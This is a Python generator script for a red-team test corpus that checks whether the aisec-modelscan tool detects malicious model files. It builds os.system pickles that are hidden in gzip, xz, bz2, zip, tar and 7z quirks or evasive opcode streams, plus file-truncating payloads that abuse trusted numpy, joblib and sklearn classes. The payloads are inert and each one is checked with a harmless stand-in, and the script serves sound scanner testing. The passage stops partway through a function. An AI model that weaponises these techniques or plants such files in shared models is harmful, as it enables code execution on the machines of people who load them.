#!/usr/bin/env python3
"""Red-team round 2 corpus for aisec-modelscan.

Writes malicious/ and benign/ next to this file plus MANIFEST.tsv (path, expected, class,
description). Deterministic. Sections run under different interpreters so that benign files come
from real library versions:

    AISEC_RT2_PY_NP2  python with numpy 2.x, scikit-learn 1.6, joblib, scipy (default /work/venv-fix/bin/python)
    AISEC_RT2_PY_NP1  python with numpy 1.26, pandas 2.2, scikit-learn 1.5, lightgbm, xgboost, lz4
                      (default /tmp/rt2venv/bin/python; section skipped when missing)

    python3 gen_redteam2.py            # all sections
    python3 gen_redteam2.py --section core|np2|np1

Every malicious trick is validated in the real loader with a harmless stand-in payload
(builtins.len / a file in a fresh temporary directory) built by the same builder; the malicious
files themselves are never loaded. Payloads are inert (`echo aisec-redteam`, paths under
/tmp/aisec-redteam2-*, 127.0.0.1:9).
"""
import bz2
import gzip
import io
import json
import lzma
import os
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
MAL = os.path.join(HERE, "malicious")
BEN = os.path.join(HERE, "benign")
ROWS = os.path.join(HERE, ".rows.jsonl")
CMD = "echo aisec-redteam"
VALIDATED = []


def row(path, expected, cls, desc):
    with open(ROWS, "a") as f:
        f.write(json.dumps([path, expected, cls, desc]) + "\n")


def write(rel, data, expected, cls, desc):
    base = MAL if expected == "malicious" else BEN
    p = os.path.join(base, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)
    assert len(data) < 64 * 1024, (rel, len(data))
    row(os.path.relpath(p, HERE), expected, cls, desc)


# ---------------------------------------------------------------------------------------------
# A tiny pickle assembler: expression trees to opcodes.
class G:
    def __init__(self, mod, name):
        self.mod, self.name = mod, name


class Call:
    def __init__(self, f, *args):
        self.f, self.args = f, args


class NewObj:
    def __init__(self, cls, *args):
        self.cls, self.args = cls, args


class NewObjEx:
    def __init__(self, cls, args, kwargs):
        self.cls, self.args, self.kwargs = cls, args, kwargs


class Build:
    def __init__(self, obj, state):
        self.obj, self.state = obj, state


class Raw:
    def __init__(self, b):
        self.b = b


def emit(v, proto=3):
    if isinstance(v, Raw):
        return v.b
    if v is None:
        return b"N"
    if v is True:
        return b"\x88"
    if v is False:
        return b"\x89"
    if isinstance(v, int):
        if -(2 ** 31) <= v < 2 ** 31:
            return b"J" + struct.pack("<i", v)
        n = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
        return b"\x8a" + bytes([len(n)]) + n
    if isinstance(v, float):
        return b"G" + struct.pack(">d", v)
    if isinstance(v, str):
        b = v.encode("utf-8")
        return b"X" + struct.pack("<I", len(b)) + b
    if isinstance(v, bytes):
        return b"B" + struct.pack("<I", len(v)) + v
    if isinstance(v, tuple):
        if not v:
            return b")"
        return b"(" + b"".join(emit(x, proto) for x in v) + b"t"
    if isinstance(v, list):
        if not v:
            return b"]"
        return b"](" + b"".join(emit(x, proto) for x in v) + b"e"
    if isinstance(v, dict):
        if not v:
            return b"}"
        return b"}(" + b"".join(emit(k, proto) + emit(x, proto) for k, x in v.items()) + b"u"
    if isinstance(v, G):
        if proto >= 4:
            return emit(v.mod) + emit(v.name) + b"\x93"
        return b"c" + v.mod.encode() + b"\n" + v.name.encode() + b"\n"
    if isinstance(v, Call):
        return emit(v.f, proto) + emit(tuple(v.args), proto) + b"R"
    if isinstance(v, NewObj):
        return emit(v.cls, proto) + emit(tuple(v.args), proto) + b"\x81"
    if isinstance(v, NewObjEx):
        return emit(v.cls, proto) + emit(tuple(v.args), proto) + emit(v.kwargs, proto) + b"\x92"
    if isinstance(v, Build):
        return emit(v.obj, proto) + emit(v.state, proto) + b"b"
    raise TypeError(type(v))


def pk(v, proto=3):
    return b"\x80" + bytes([proto]) + emit(v, proto) + b"."


OS_SYSTEM = Call(G("os", "system"), CMD)


def payload_pickle():
    return pk(OS_SYSTEM, 2)


def benign_pickle():
    return pk({"weights": [1.0, 2.0], "name": "m"}, 2)


def npy_object(pickle_body, shape=(1,)):
    """An object-dtype .npy (format 1.0) whose data is `pickle_body`."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': %r, }" % (shape,)
    pad = 64 - ((10 + len(header) + 1) % 64)
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + pickle_body


def tmpdir():
    return tempfile.mkdtemp(prefix="aisec-rt2-validate-")


def ok(name):
    VALIDATED.append(name)


# ---------------------------------------------------------------------------------------------
# core: containers and stream-level tricks (stdlib only; validated with pickle/gzip/zipfile/tarfile).
def section_core():
    import pickle

    standin = pk(Call(G("builtins", "len"), "abcd"), 2)  # returns 4

    # --- gzip with two members: the pickle is split across them (gzip.open/pandas read all members).
    def gz_two_members(body):
        k = len(body) // 2
        return gzip.compress(body[:k], mtime=0) + gzip.compress(body[k:], mtime=0)

    assert pickle.loads(gzip.decompress(gz_two_members(standin))) == 4
    ok("gz_two_members")
    write("gzip_two_members_split.pkl.gz", gz_two_members(payload_pickle()), "malicious", "container-compressed",
          "gzip file of two gzip members; the os.system pickle is split between them (gzip.open/pandas.read_pickle read both)")

    # --- gzip whose first member is empty, payload in the second member.
    def gz_empty_first(body):
        return gzip.compress(b"", mtime=0) + gzip.compress(body, mtime=0)

    assert pickle.loads(gzip.decompress(gz_empty_first(standin))) == 4
    write("gzip_empty_first_member.pkl.gz", gz_empty_first(payload_pickle()), "malicious", "container-compressed",
          "gzip: first member empty, the os.system pickle is in the second member")

    # --- gzip header with FEXTRA + FNAME + FCOMMENT + FHCRC.
    def gz_flags(body):
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = comp.compress(body) + comp.flush()
        extra = b"AB" + struct.pack("<H", 4) + b"xxxx"
        hdr = b"\x1f\x8b\x08" + bytes([0x02 | 0x04 | 0x08 | 0x10]) + b"\x00\x00\x00\x00\x00\xff"
        hdr += struct.pack("<H", len(extra)) + extra + b"model.pkl\x00" + b"comment\x00"
        hdr += struct.pack("<H", zlib.crc32(hdr) & 0xFFFF)
        return hdr + deflated + struct.pack("<II", zlib.crc32(body), len(body))

    assert pickle.loads(gzip.decompress(gz_flags(standin))) == 4
    write("gzip_all_header_flags.pkl.gz", gz_flags(payload_pickle()), "malicious", "container-compressed",
          "gzip with FEXTRA/FNAME/FCOMMENT/FHCRC header fields around an os.system pickle")

    # --- bz2 / xz multi-stream splits.
    def bz2_split(body):
        k = len(body) // 2
        return bz2.compress(body[:k]) + bz2.compress(body[k:])

    assert pickle.loads(bz2.decompress(bz2_split(standin))) == 4
    write("bz2_two_streams_split.pkl.bz2", bz2_split(payload_pickle()), "malicious", "container-compressed",
          "bz2 file of two streams; the os.system pickle is split between them (bz2.open reads both)")

    def xz_split(body):
        k = len(body) // 2
        return lzma.compress(body[:k]) + lzma.compress(body[k:])

    assert pickle.loads(lzma.decompress(xz_split(standin))) == 4
    write("xz_two_streams_split.pkl.xz", xz_split(payload_pickle()), "malicious", "container-compressed",
          "xz file of two streams; the os.system pickle is split between them (lzma.open reads both)")

    def xz_padding(body):
        return lzma.compress(body) + b"\x00" * 8 + lzma.compress(b"")

    assert pickle.loads(lzma.decompress(xz_padding(standin))) == 4
    write("xz_stream_padding.pkl.xz", xz_padding(payload_pickle()), "malicious", "container-compressed",
          "xz stream, stream padding, then an empty stream (valid per the xz spec)")

    # --- zip members compressed with bzip2 / lzma (zipfile reads both).
    def zip_method(body, method):
        bio = io.BytesIO()
        with zipfile.ZipFile(bio, "w", compression=method) as z:
            z.writestr("model/data.pkl", body)
        return bio.getvalue()

    for method, tag in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")):
        z = zip_method(standin, method)
        assert pickle.loads(zipfile.ZipFile(io.BytesIO(z)).read("model/data.pkl")) == 4
        write(f"zip_member_{tag}.zip", zip_method(payload_pickle(), method), "malicious", "container-zip-quirk",
              f"zip whose data.pkl member is compressed with {tag} (method {method}); os.system pickle")

    # --- zip written to an unseekable stream: data descriptors, local sizes 0.
    class NoSeek(io.RawIOBase):
        def __init__(self):
            self.buf = bytearray()

        def writable(self):
            return True

        def write(self, b):
            self.buf += b
            return len(b)

        def seekable(self):
            return False

    def zip_dd(body, method=zipfile.ZIP_DEFLATED):
        ns = NoSeek()
        with zipfile.ZipFile(ns, "w", compression=method) as z:
            with z.open("archive/data.pkl", "w") as f:
                f.write(body)
        return bytes(ns.buf)

    z = zip_dd(standin)
    assert pickle.loads(zipfile.ZipFile(io.BytesIO(z)).read("archive/data.pkl")) == 4
    write("zip_data_descriptor_deflated.zip", zip_dd(payload_pickle()), "malicious", "container-zip-quirk",
          "zip written to an unseekable stream: flag bit 3, local header sizes/CRC 0, data descriptor after deflated data")
    z = zip_dd(standin, zipfile.ZIP_STORED)
    assert pickle.loads(zipfile.ZipFile(io.BytesIO(z)).read("archive/data.pkl")) == 4
    write("zip_data_descriptor_stored.zip", zip_dd(payload_pickle(), zipfile.ZIP_STORED), "malicious",
          "container-zip-quirk", "stored member with data descriptor (local sizes 0), os.system pickle")

    # --- zip64: force_zip64 member + zip64 end-of-central-directory with 0xFFFF classic fields.
    def zip64(body):
        bio = io.BytesIO()
        with zipfile.ZipFile(bio, "w") as z:
            z.writestr("README.md", b"hello\n")
            with z.open("model.pkl", "w", force_zip64=True) as f:
                f.write(body)
        data = bio.getvalue()
        eocd = data.rfind(b"PK\x05\x06")
        (_, disk, cd_disk, n_this, n_total, cd_size, cd_off, clen) = struct.unpack("<IHHHHIIH", data[eocd:eocd + 22])
        z64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n_this, n_total, cd_size, cd_off)
        loc = struct.pack("<IIQI", 0x07064B50, 0, eocd, 1)
        new_eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
        return data[:eocd] + z64 + loc + new_eocd

    z = zip64(standin)
    assert pickle.loads(zipfile.ZipFile(io.BytesIO(z)).read("model.pkl")) == 4
    write("zip64_eocd_ffff.zip", zip64(payload_pickle()), "malicious", "container-zip-quirk",
          "zip64 end record + locator; classic EOCD counts/offsets are 0xFFFF/0xFFFFFFFF; member has zip64 extra")

    # --- zip appended after a benign pickle (zipfile finds the EOCD at the end; offsets shifted).
    def pickle_then_zip(body):
        bio = io.BytesIO()
        with zipfile.ZipFile(bio, "w") as z:
            z.writestr("data.pkl", body)
        return benign_pickle() + bio.getvalue()

    z = pickle_then_zip(standin)
    assert pickle.loads(zipfile.ZipFile(io.BytesIO(z)).read("data.pkl")) == 4
    write("benign_pickle_then_zip.zip", pickle_then_zip(payload_pickle()), "malicious", "container-zip-quirk",
          "a benign pickle followed by a zip whose data.pkl is os.system (ZipFile opens it; file starts with \\x80\\x02)")

    # --- tar quirks.
    def tar_bytes(members, fmt=tarfile.PAX_FORMAT, pax_for=None):
        bio = io.BytesIO()
        with tarfile.open(fileobj=bio, mode="w", format=fmt) as t:
            for name, data, pax in members:
                ti = tarfile.TarInfo(name)
                ti.size = len(data)
                ti.mtime = 0
                if pax:
                    ti.pax_headers = pax
                t.addfile(ti, io.BytesIO(data))
        return bio.getvalue()

    # PAX path override: ustar name says README.txt, PAX says model.pkl
    def tar_pax_path(body):
        return tar_bytes([("README.txt", body, {"path": "model.pkl"})])

    t = tarfile.open(fileobj=io.BytesIO(tar_pax_path(standin)))
    assert t.getnames() == ["model.pkl"] and pickle.loads(t.extractfile("model.pkl").read()) == 4
    write("tar_pax_path_override.tar", tar_pax_path(payload_pickle()), "malicious", "container-archive",
          "tar whose ustar name is README.txt but a PAX 'path' record renames it model.pkl (os.system pickle)")

    # PAX size override: ustar header says size 0, PAX says the real size.
    def tar_pax_size(body):
        raw = bytearray(tar_bytes([("model.pkl", body, {"comment": "x"})]))
        # find the ustar header of model.pkl (second header block after the pax block)
        off = 0
        while off < len(raw):
            name = bytes(raw[off:off + 100]).rstrip(b"\x00")
            typ = raw[off + 156:off + 157]
            if name == b"model.pkl" and typ == b"0":
                break
            size = int(bytes(raw[off + 124:off + 136]).rstrip(b"\x00 ") or b"0", 8)
            off += 512 + ((size + 511) // 512) * 512
        # rewrite the pax header to also carry size, and set ustar size to 0
        pax = tarfile.TarInfo("././@PaxHeader")
        recs = b""
        for k, v in (("size", str(len(body))),):
            r = f" {k}={v}\n".encode()
            n = len(r) + 1
            while len(str(n)) + len(r) != n:
                n = len(str(n)) + len(r)
            recs += str(n).encode() + r
        pax.size = len(recs)
        pax.type = tarfile.XHDTYPE
        hdr = bytearray(raw[off:off + 512])
        hdr[124:136] = b"%011o\x00" % 0
        hdr[148:156] = b"        "
        hdr[148:156] = b"%06o\x00 " % sum(hdr)
        paxblock = pax.tobuf(tarfile.USTAR_FORMAT) + recs + b"\x00" * ((512 - len(recs) % 512) % 512)
        data_blocks = raw[off + 512:off + 512 + ((len(body) + 511) // 512) * 512]
        return paxblock + bytes(hdr) + bytes(data_blocks) + b"\x00" * 1024

    t = tarfile.open(fileobj=io.BytesIO(tar_pax_size(standin)))
    assert pickle.loads(t.extractfile("model.pkl").read()) == 4
    write("tar_pax_size_override.tar", tar_pax_size(payload_pickle()), "malicious", "container-archive",
          "tar whose ustar header says size 0 for model.pkl; a PAX 'size' record gives the real size (tarfile honours it)")

    # GNU longname
    def tar_gnu_long(body):
        return tar_bytes([("d/" + "x" * 120 + "/model.pkl", body, None)], fmt=tarfile.GNU_FORMAT)

    t = tarfile.open(fileobj=io.BytesIO(tar_gnu_long(standin)))
    assert pickle.loads(t.extractfile(t.getmembers()[0]).read()) == 4
    write("tar_gnu_longname.tar", tar_gnu_long(payload_pickle()), "malicious", "container-archive",
          "GNU tar with a ././@LongLink long name for the os.system model.pkl")

    # gz of tar of zip of zlib-joblib
    def tgz_zip_joblib(body):
        jb = zlib.compress(body, 3)  # joblib's zlib compressor writes a bare zlib stream (magic 0x78)
        bio = io.BytesIO()
        with zipfile.ZipFile(bio, "w") as z:
            z.writestr("model/estimator.joblib", jb)
        tb = tar_bytes([("bundle/model.zip", bio.getvalue(), None)], fmt=tarfile.USTAR_FORMAT)
        return gzip.compress(tb, mtime=0)

    try:
        import joblib  # noqa

        tb = tgz_zip_joblib(standin)
        t = tarfile.open(fileobj=io.BytesIO(gzip.decompress(tb)))
        zb = t.extractfile("bundle/model.zip").read()
        d = tmpdir()
        p = os.path.join(d, "m.joblib")
        open(p, "wb").write(zipfile.ZipFile(io.BytesIO(zb)).read("model/estimator.joblib"))
        assert joblib.load(p) == 4
        ok("tgz_zip_joblib")
    except ImportError:
        pass
    write("tgz_of_zip_of_zlib_joblib.tar.gz", tgz_zip_joblib(payload_pickle()), "malicious", "container-archive",
          "tar.gz holding a zip holding a zlib-compressed joblib file whose pickle calls os.system")

    # --- 7z: multiple folders (non-solid) with payload in the second folder
    try:
        import py7zr

        def sz_multi(body):
            bio = io.BytesIO()
            with py7zr.SevenZipFile(bio, "w", filters=[{"id": py7zr.FILTER_LZMA2}]) as z:
                z.writestr(b"hello\n" * 10, "README.md")
            bio2 = io.BytesIO()
            # a second archive written with copy filter: py7zr cannot append folders, so use a
            # different filter chain inside one archive (BCJ + LZMA2 -> separate coder set)
            with py7zr.SevenZipFile(bio2, "w", filters=[{"id": py7zr.FILTER_X86}, {"id": py7zr.FILTER_LZMA2}]) as z:
                z.writestr(b"hello\n" * 10, "README.md")
                z.writestr(body, "weights/model.pkl")
            return bio2.getvalue()

        b = sz_multi(standin)
        with py7zr.SevenZipFile(io.BytesIO(b)) as z:
            got = z.read(["weights/model.pkl"])
        assert pickle.loads(got["weights/model.pkl"].read()) == 4
        write("sevenzip_bcj_lzma2.7z", sz_multi(payload_pickle()), "malicious", "container-archive",
              "7z with a BCJ(x86)+LZMA2 coder chain; weights/model.pkl is an os.system pickle")

        def sz_copy(body):
            bio = io.BytesIO()
            with py7zr.SevenZipFile(bio, "w", filters=[{"id": py7zr.FILTER_COPY}]) as z:
                z.writestr(body, "model.pkl")
            return bio.getvalue()

        with py7zr.SevenZipFile(io.BytesIO(sz_copy(standin))) as z:
            assert pickle.loads(z.read(["model.pkl"])["model.pkl"].read()) == 4
        write("sevenzip_copy_filter.7z", sz_copy(payload_pickle()), "malicious", "container-archive",
              "7z with the COPY (stored) coder; model.pkl is an os.system pickle")

        def sz_zstd(body):
            bio = io.BytesIO()
            with py7zr.SevenZipFile(bio, "w", filters=[{"id": py7zr.FILTER_ZSTD}]) as z:
                z.writestr(body, "model.pkl")
            return bio.getvalue()

        try:
            with py7zr.SevenZipFile(io.BytesIO(sz_zstd(standin))) as z:
                assert pickle.loads(z.read(["model.pkl"])["model.pkl"].read()) == 4
            write("sevenzip_zstd.7z", sz_zstd(payload_pickle()), "malicious", "container-archive",
                  "7z with the ZStandard coder (py7zr reads it); model.pkl is an os.system pickle")
        except Exception as e:
            print("7z zstd skipped", e)
        ok("7z")
    except ImportError:
        pass

    # --- pickles in zip under innocuous names: which members are analysed?
    def zip_named(name, body):
        bio = io.BytesIO()
        with zipfile.ZipFile(bio, "w") as z:
            z.writestr("config.json", b"{}")
            z.writestr(name, body)
        return bio.getvalue()

    for name in ("model.safetensors", "tokenizer.json", "README.md", "weights/part-0000"):
        tag = name.replace("/", "_").replace(".", "_")
        write(f"zip_pickle_named_{tag}.zip", zip_named(name, payload_pickle()), "malicious", "container-archive",
              f"zip member {name!r} is an os.system pickle (content, not name, decides)")

    # --- torch zip: data.pkl benign-looking, payload in a storage key that is itself a pickle
    def torch_zip(datapkl, extra):
        bio = io.BytesIO()
        with zipfile.ZipFile(bio, "w") as z:
            z.writestr("archive/data.pkl", datapkl)
            z.writestr("archive/byteorder", b"little")
            for k, v in extra.items():
                z.writestr(f"archive/data/{k}", v)
            z.writestr("archive/version", b"3\n")
        return bio.getvalue()

    # storage 0 holds a pickle; data.pkl's pid for it is a ByteStorage: torch reads it as raw bytes,
    # and torch.storage._load_from_bytes is NOT used: benign for torch.load. Kept as a benign control.
    pers = Raw(b"(" + emit("storage") + emit(G("torch", "ByteStorage")) + emit("0") + emit("cpu") + emit(len(payload_pickle())) + b"tQ")
    tensor = Call(G("torch._utils", "_rebuild_tensor_v2"), pers, 0, (len(payload_pickle()),), (1,), False,
                  Call(G("collections", "OrderedDict")))
    write("torch_zip_storage_bytes_look_like_pickle.pt",
          torch_zip(pk({"w": tensor}, 2), {"0": payload_pickle()}), "benign", "benign-torch",
          "torch zip: uint8 storage 0 whose raw bytes happen to be a pickle; torch never unpickles storages (should not be flagged >= medium)")

    # --- stream tricks: payload hidden after opcodes the scanner may mis-size
    # FRAME whose declared size is larger than the remaining input (C unpickler: frame is only a hint
    # when reading via file? no: _Unframer raises). Use protocol 4 with FRAME spanning exactly; then
    # a second FRAME containing the payload, preceded by a zero-length FRAME.
    def frames(body_ops):
        f0 = b"\x95" + struct.pack("<Q", 0)
        f1 = b"\x95" + struct.pack("<Q", len(body_ops)) + body_ops
        return b"\x80\x04" + f0 + f1

    ops = emit(Call(G("builtins", "len"), "abcd"), 4) + b"."
    assert pickle.loads(frames(ops)) == 4
    write("frame_zero_length_first.pkl", frames(emit(OS_SYSTEM, 4) + b"."), "malicious", "stream-quirk",
          "protocol 4: an empty FRAME, then a FRAME holding STACK_GLOBAL os.system + REDUCE")

    # --- protocol 5 BYTEARRAY8 / NEXT_BUFFER-free READONLY_BUFFER ops before payload
    pre = b"\x96" + struct.pack("<Q", 3) + b"abc" + b"0"  # BYTEARRAY8 then POP
    v = b"\x80\x05" + pre + emit(Call(G("builtins", "len"), "abcd"), 4) + b"."
    assert pickle.loads(v) == 4
    write("p5_bytearray8_then_payload.pkl", b"\x80\x05" + pre + emit(OS_SYSTEM, 4) + b".", "malicious",
          "stream-quirk", "protocol 5 BYTEARRAY8 + POP, then os.system")

    # --- POP_MARK / DUP / PERSID-free tricks: payload inside MARK ... POP_MARK (executed, then discarded)
    v = b"\x80\x02(" + emit(Call(G("builtins", "len"), "abcd")) + b"1" + b"N."
    assert pickle.loads(v) is None
    write("payload_inside_pop_mark.pkl", b"\x80\x02(" + emit(OS_SYSTEM, 2) + b"1N.", "malicious", "stream-quirk",
          "os.system REDUCE inside MARK ... POP_MARK (result discarded, call still runs); returns None")

    # --- payload as a dict key that is then overwritten
    v = b"\x80\x02}(" + emit(Call(G("builtins", "len"), "abcd")) + b"N" + emit(4) + b"Nu."
    assert pickle.loads(v) == {4: None}
    write("payload_as_overwritten_dict_key.pkl",
          b"\x80\x02}(" + emit(OS_SYSTEM, 2) + b"N" + emit(0) + b"Nu.", "malicious", "stream-quirk",
          "os.system result used as a dict key in SETITEMS")

    # --- BINPERSID in a plain pickle (pickle.load without persistent_load raises AFTER earlier calls)
    v = b"\x80\x02" + emit(Call(G("builtins", "len"), "abcd")) + b"0" + emit("x") + b"Q."
    try:
        pickle.loads(v)
    except pickle.UnpicklingError:
        pass
    write("payload_then_binpersid.pkl", b"\x80\x02" + emit(OS_SYSTEM, 2) + b"0" + emit("x") + b"Q.",
          "malicious", "stream-quirk", "os.system REDUCE, POP, then BINPERSID (loader raises only after the call ran)")

    # --- benign controls (stdlib)
    import argparse
    import collections
    import dataclasses
    import datetime
    import decimal
    import enum
    import fractions
    import pathlib
    import re
    import types
    import uuid

    class Color(enum.IntEnum):
        RED = 1

    class Perm(enum.Flag):
        R = 4
        W = 2

    @dataclasses.dataclass
    class Cfg:
        lr: float = 0.1
        path: pathlib.PurePosixPath = pathlib.PurePosixPath("/data")

    Point = collections.namedtuple("Point", "x y")
    # make the classes pickle as __main__.X like a training script would
    for c in (Color, Perm, Cfg, Point):
        c.__module__ = "__main__"
        c.__qualname__ = c.__name__
        setattr(sys.modules["__main__"], c.__name__, c)
    cfg = {
        "path": pathlib.PosixPath("/data/train"),
        "pure": pathlib.PureWindowsPath("C:/x"),
        "when": datetime.datetime(2024, 5, 1, 12, 0, tzinfo=datetime.timezone(datetime.timedelta(hours=2))),
        "date": datetime.date(2024, 1, 1),
        "time": datetime.time(1, 2, 3),
        "td": datetime.timedelta(days=1, seconds=5),
        "dec": decimal.Decimal("1.10"),
        "frac": fractions.Fraction(3, 7),
        "uuid": uuid.UUID(int=12345),
        "re": re.compile(r"\w+", re.I),
        "ns": argparse.Namespace(lr=0.1, epochs=3),
        "sns": types.SimpleNamespace(a=1),
        "ba": bytearray(b"abc"),
        "r": range(0, 10, 2),
        "s": slice(1, 5, 2),
        "c": complex(1, -2),
        "counter": collections.Counter("aab"),
        "dd": collections.defaultdict(list, {"a": [1]}),
        "od": collections.OrderedDict(a=1),
        "dq": collections.deque([1, 2], maxlen=5),
        "fs": frozenset({1, 2}),
        "color": Color.RED,
        "perm": Perm.R | Perm.W,
        "cfg": Cfg(),
        "pt": Point(1, 2),
        "builtins_refs": [len, sum, abs, max, min, round, sorted, float, int, str],
        "ellipsis": ...,
        "notimpl": NotImplemented,
        "big": 2 ** 100,
        "neg": -2 ** 70,
    }
    for p in range(0, 6):
        b = pickle.dumps(cfg, protocol=p)
        pickle.loads(b)
        write(f"stdlib_config_p{p}.pkl", b, "benign", "benign-collections",
              f"training-config dict of stdlib objects (pathlib, datetime, Decimal, Fraction, UUID, re.Pattern, Namespace, SimpleNamespace, IntEnum, Flag, dataclass, namedtuple from __main__, Counter, defaultdict, deque, range, slice, builtins refs), protocol {p}")
    import array
    import random
    import zoneinfo

    extras = {
        "array": array.array("f", [1.0, 2.0]),
        "py_random_state": random.Random(0).getstate(),
        "zoneinfo_dt": datetime.datetime(2024, 1, 1, tzinfo=zoneinfo.ZoneInfo("UTC")),
    }
    for k, vv in extras.items():
        for p in (2, 4):
            b = pickle.dumps(vv, protocol=p)
            pickle.loads(b)
            write(f"stdlib_{k}_p{p}.pkl", b, "benign", "benign-collections",
                  f"{k}: {type(vv).__name__} as saved in checkpoints/configs, protocol {p}")
    for p in (2, 4):
        b = pickle.dumps({"key": str.lower, "strip": str.strip, "fromkeys": dict.fromkeys}, protocol=p)
        pickle.loads(b)
        write(f"stdlib_method_descriptors_p{p}.pkl", b, "benign", "benign-collections",
              f"config with str.lower/str.strip/dict.fromkeys callables (preprocessor= args), protocol {p}")
    print("core validated", VALIDATED)


# ---------------------------------------------------------------------------------------------
def run_joblib_standin(jobbytes):
    import joblib

    d = tmpdir()
    p = os.path.join(d, "m.joblib")
    open(p, "wb").write(jobbytes)
    return joblib.load(p)


def section_np_common(tag):
    """Malicious tricks that need numpy/joblib/sklearn/pandas; validated with stand-ins."""
    import pickle

    import numpy as np

    npver = np.__version__
    mm_mod = "numpy._core.memmap" if npver.startswith("2") else "numpy.core.memmap"

    # --- M1: NEWOBJ of numpy memmap: memmap.__new__(cls, filename, dtype, mode='w+', offset, shape) creates/truncates a file
    def memmap_newobj(path, proto=2, mod=mm_mod):
        return pk(NewObj(G(mod, "memmap"), path, "uint8", "w+", 0, (8,)), proto)

    d = tmpdir()
    target = os.path.join(d, "created.bin")
    pickle.loads(memmap_newobj(target))
    assert os.path.getsize(target) == 8
    if tag == "np1":
        write("numpy1_memmap_newobj_w_plus.pkl", memmap_newobj("/tmp/aisec-redteam2-memmap.bin"), "malicious",
              "newobj-file-write", "NEWOBJ numpy.core.memmap.memmap('/tmp/aisec-redteam2-memmap.bin','uint8','w+',0,(8,)): memmap.__new__ creates/truncates the file")
    if tag == "np2":
        d = tmpdir()
        target = os.path.join(d, "created.bin")
        pickle.loads(memmap_newobj(target, 4, "numpy._core.memmap"))
        assert os.path.exists(target)
        write("numpy2_memmap_newobj_w_plus_p4.pkl",
              memmap_newobj("/tmp/aisec-redteam2-memmap.bin", 4, "numpy._core.memmap"), "malicious",
              "newobj-file-write", "protocol 4 STACK_GLOBAL numpy._core.memmap.memmap + NEWOBJ (w+): creates/truncates a file")

        def memmap_newobj_ex(path):
            return pk(NewObjEx(G("numpy._core.memmap", "memmap"), (path,),
                               {"dtype": "uint8", "mode": "w+", "shape": (8,)}), 4)

        d = tmpdir()
        target = os.path.join(d, "c.bin")
        pickle.loads(memmap_newobj_ex(target))
        assert os.path.exists(target)
        write("numpy2_memmap_newobj_ex_kwargs.pkl", memmap_newobj_ex("/tmp/aisec-redteam2-memmap.bin"), "malicious",
              "newobj-file-write", "NEWOBJ_EX numpy._core.memmap.memmap(path, dtype=, mode='w+', shape=): creates a file")
        ok("memmap")

    # --- M7: joblib compat NDArrayWrapper -> np.load(filename, allow_pickle=True) of an arbitrary path
    import joblib

    def ndwrapper(filename, proto=2):
        st = {"filename": filename, "subclass": G("numpy", "ndarray"), "allow_mmap": False}
        return pk({"coef_": Build(NewObj(G("joblib.numpy_pickle", "NDArrayWrapper")), st)}, proto)

    d = tmpdir()
    side = os.path.join(d, "side.npy")
    # stand-in nested pickle: numpy.zeros(4) (any call runs; the result must be an array for joblib)
    open(side, "wb").write(npy_object(pk(Call(G("numpy", "zeros"), 4), 2)))
    got = run_joblib_standin(ndwrapper(side))
    assert got["coef_"].shape == (4,), got
    if tag == "np2":
        write("joblib_ndarraywrapper_abs_path.joblib", ndwrapper("/tmp/aisec-redteam2-nonexistent/evil.npy"),
              "malicious", "allowlisted-loader",
              "old-format joblib NDArrayWrapper(filename='/tmp/.../evil.npy'): joblib.load calls np.load(path, allow_pickle=True) on an arbitrary file (validated: stand-in .npy pickle runs)")
        write("joblib_ndarraywrapper_traversal.pkl", ndwrapper("../../../../tmp/aisec-redteam2-nonexistent/evil.npy"),
              "malicious", "allowlisted-loader",
              "joblib NDArrayWrapper with a ../ path: np.load(allow_pickle=True) of a file outside the model folder")
        # ZNDArrayWrapper reads an arbitrary file
        ok("ndarraywrapper")

    # --- M3/M4: trusted joblib classes that write files
    from joblib import logger as _jl  # noqa

    def printtime(path):
        return pk({"log": Call(G("joblib.logger", "PrintTime"), path)}, 2)

    d = tmpdir()
    victim = os.path.join(d, "victim.txt")
    open(victim, "w").write("important")
    pickle.loads(printtime(victim))
    assert "important" not in open(victim).read()
    if tag == "np2":
        write("joblib_printtime_truncate.pkl", printtime("/tmp/aisec-redteam2-victim.txt"), "malicious",
              "trusted-lib-class-fs", "joblib.logger.PrintTime(logfile): mkdir, rotates with shutil.move/copy, then open(logfile,'w') truncates it")

    def zfile(mod, cls, path):
        return pk(Call(G(mod, cls), path, "wb"), 2)

    for mod, cls in (("joblib.compressor", "BinaryZlibFile"), ("joblib.compressor", "BinaryGzipFile")):
        d = tmpdir()
        victim = os.path.join(d, "v.bin")
        open(victim, "w").write("important")
        pickle.loads(zfile(mod, cls, victim))
        assert b"important" not in open(victim, "rb").read()
        if tag == "np2":
            write(f"{mod.replace('.', '_')}_{cls}_truncate.pkl", zfile(mod, cls, "/tmp/aisec-redteam2-victim.bin"),
                  "malicious", "trusted-lib-class-fs", f"{mod}.{cls}(path, 'wb'): opens path for writing (truncates)")

    # --- sklearn re-export of joblib.Memory
    try:
        import sklearn.datasets._lfw  # noqa

        def skmem(path):
            return pk(Call(G("sklearn.datasets._lfw", "Memory"), path), 2)

        d = tmpdir()
        loc = os.path.join(d, "cache")
        pickle.loads(skmem(loc))
        assert os.path.isdir(loc)
        if tag == "np2":
            write("sklearn_lfw_memory_reexport.pkl", skmem("/tmp/aisec-redteam2-cache"), "malicious",
                  "trusted-lib-alias", "sklearn.datasets._lfw.Memory is joblib.Memory re-exported (deny list has joblib.Memory/joblib.memory): creates directories")
    except ImportError:
        pass

    # --- M8: defaultdict default_factory = partial(unknown fn) called through ChainMap.__getitem__ by dict()
    def chain(fn, *args):
        dd = Call(G("collections", "defaultdict"), Call(G("functools", "partial"), fn, *args))
        cm = Call(G("collections", "ChainMap"), dd, {"k": 1})
        return pk({"cfg": Call(G("builtins", "dict"), cm)}, 2)

